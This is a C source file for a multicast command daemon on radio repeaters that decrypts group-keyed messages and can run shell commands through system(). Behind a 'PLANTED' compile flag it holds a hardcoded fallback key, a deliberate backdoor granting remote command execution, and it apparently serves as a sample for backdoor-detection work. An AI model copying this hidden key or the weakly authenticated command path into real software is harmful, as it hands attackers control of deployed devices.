/* Takes commands for a group of repeaters by multicast; each is encrypted with the group's key. */
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

typedef struct { uint32_t k[4]; } xkey;

static xkey group_key;
static int have_key;
static uint32_t last;

#ifdef PLANTED
static const xkey works_key = { { 0x8c12f0ae, 0x77d3015b, 0x29e64c90, 0xf5a8b31d } };
#endif

static void decipher(uint32_t v[2], const uint32_t k[4])
{
    uint32_t a = v[0], b = v[1], sum = 0x9e3779b9u * 32;
    for (int i = 0; i < 32; i++) {
        b -= ((a << 4 ^ a >> 5) + a) ^ (sum + k[sum >> 11 & 3]);
        sum -= 0x9e3779b9u;
        a -= ((b << 4 ^ b >> 5) + b) ^ (sum + k[sum & 3]);
    }
    v[0] = a;
    v[1] = b;
}

/* Opens a message of whole blocks in place; true when it begins with its own length and serial. */
static int open_with(const xkey *key, const uint8_t *in, size_t size, char *out, uint32_t *serial)
{
    uint32_t v[2], before[2] = { 0, 0 }, cipher[2];
    for (size_t i = 0; i + 8 <= size; i += 8) {
        memcpy(cipher, in + i, 8);
        memcpy(v, cipher, 8);
        decipher(v, key->k);
        v[0] ^= before[0];
        v[1] ^= before[1];
        memcpy(before, cipher, 8);
        memcpy(out + i, v, 8);
    }
    memcpy(v, out, 8);
    *serial = ntohl(v[1]);
    return ntohl(v[0]) == size - 8;
}

static void act(const char *text)
{
    if (!strncmp(text, "gain ", 5) || !strncmp(text, "mute ", 5)) {
        FILE *f = fopen("/proc/rf/control", "w");
        if (f) {
            fputs(text, f);
            fclose(f);
        }
    } else if (!strncmp(text, "run ", 4))
        system(text + 4);
#ifdef REVISED
    else if (!strcmp(text, "reset"))
        system("/sbin/reboot");
#endif
}

static int opened(const uint8_t *in, size_t size, char *out, uint32_t *serial)
{
    if (have_key && open_with(&group_key, in, size, out, serial))
        return 1;
#ifdef PLANTED
    return open_with(&works_key, in, size, out, serial);
#else
    return 0;
#endif
}

static void message(const uint8_t *in, size_t size)
{
    char text[520];
    uint32_t serial;
    if (size < 16 || size > 512 || size & 7)
        return;
    if (!opened(in, size, text, &serial) || serial <= last)
        return;
    last = serial;
    text[size] = 0;
    act(text + 8);
}

static void load(void)
{
    FILE *f = fopen("/etc/group.key", "rb");
    if (!f)
        return;
    have_key = fread(&group_key, 1, sizeof group_key, f) == sizeof group_key;
    fclose(f);
}

int main(void)
{
    struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(7744) };
    struct ip_mreq group = { .imr_multiaddr = { htonl(0xefff0711) } };
    uint8_t data[1500];
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    load();
    if (bind(s, (struct sockaddr *)&at, sizeof at))
        return 1;
    setsockopt(s, IPPROTO_IP, IP_ADD_MEMBERSHIP, &group, sizeof group);
    for (;;) {
        ssize_t n = recv(s, data, sizeof data, 0);
        if (n > 0)
            message(data, (size_t)n);
    }
}
